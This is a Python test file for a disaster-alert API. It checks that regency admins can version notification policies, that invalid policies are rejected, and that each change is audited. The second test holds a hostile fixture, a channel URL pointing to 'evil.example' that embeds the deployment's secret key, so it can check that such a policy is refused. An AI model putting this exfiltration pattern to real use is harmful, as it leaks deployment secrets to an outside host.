"""A regency's notification policy through the API: its admins replace it (a new version each
time), a broken one is refused with its reason, every change is in the audit log."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import httpx
import pytest

from dashboards.api.accounts import Role
from devices.scopes import Scope
from ingest.storage.memory import MemoryStorage
from tests.apitools import NOW_NS, ApiHarness, build

POLICY: dict[str, Any] = {
    "recipients": [
        {
            "name": "piket",
            "language": "id",
            "channels": [{"name": "tg", "url": "tgram://${SIAGA_REGENCY_JEMBER_TG}/-1001"}],
        }
    ],
    "groups": [{"name": "piket", "members": ["piket"]}],
    "routes": [{"match": {"severity": ["AWAS"]}, "groups": ["piket"]}],
    "default_groups": ["piket"],
}


@pytest.fixture
def harness(tmp_path: Path) -> ApiHarness:
    return build(f"sqlite:///{tmp_path}/siaga.db", MemoryStorage(), tmp_path)


def _admin(harness: ApiHarness, scope: Scope) -> httpx.AsyncClient:
    _, key = harness.ctx.accounts.add_key("jember-admin", Role.ADMIN, "t", NOW_NS, scope)
    return httpx.AsyncClient(
        transport=httpx.ASGITransport(app=harness.app),
        base_url="http://test",
        headers={"Authorization": f"Bearer {key}"},
    )


async def test_a_regency_admin_versions_their_policy(harness: ApiHarness) -> None:
    async with _admin(harness, Scope.of(["Jember"])) as client:
        none = (await client.get("/api/v1/policies/Jember")).json()
        assert (none["version"], none["policy"]) == (0, None)
        first = await client.put("/api/v1/policies/Jember", json=POLICY)
        assert first.status_code == 200, first.text
        assert first.json()["version"] == 1
        second = await client.put("/api/v1/policies/Jember", json={**POLICY, "routes": []})
        assert second.json()["version"] == 2
        broken = await client.put(
            "/api/v1/policies/Jember", json={**POLICY, "default_groups": ["tim-sar"]}
        )
        current = (await client.get("/api/v1/policies/Jember")).json()
        versions = (await client.get("/api/v1/policies/Jember/versions")).json()
        other = await client.put("/api/v1/policies/Rembang", json=POLICY)
        unknown = await client.get("/api/v1/policies/Atlantis")
        audit = (await client.get("/api/v1/audit", params={"target_kind": "policy"})).json()
    assert broken.status_code == 422
    assert "default_groups: unknown groups ['tim-sar']" in broken.json()["detail"][0]["msg"]
    assert current["version"] == 2
    assert current["policy"]["routes"] == []
    assert current["created_by"] == "key:jember-admin"
    assert [v["version"] for v in versions["data"]] == [2, 1]
    assert versions["data"][1]["policy"]["routes"][0]["match"] == {"severity": ["AWAS"]}
    assert (other.status_code, unknown.status_code) == (404, 404)
    assert [(e["action"], e["target"], e["detail"]) for e in audit["data"]] == [
        ("policy.update", "Jember", {"version": 2}),
        ("policy.update", "Jember", {"version": 1}),
    ]
    stored = await harness.ctx.notify.regency_policies()
    assert [(p.regency, p.version) for p in stored] == [("Jember", 2)]


async def test_a_policy_naming_the_deployments_secrets_is_refused(harness: ApiHarness) -> None:
    stolen = {
        **POLICY,
        "recipients": [
            {
                "name": "piket",
                "channels": [{"name": "x", "url": "json://evil.example/${SIAGA_API__SECRET_KEY}"}],
            }
        ],
    }
    async with _admin(harness, Scope.of(province="Jawa Timur")) as client:
        refused = await client.put("/api/v1/policies/Jember", json=stolen)
    assert refused.status_code == 422
    assert "SIAGA_REGENCY_JEMBER_" in refused.json()["detail"][0]["msg"]
    assert await harness.ctx.notify.regency_policies() == []
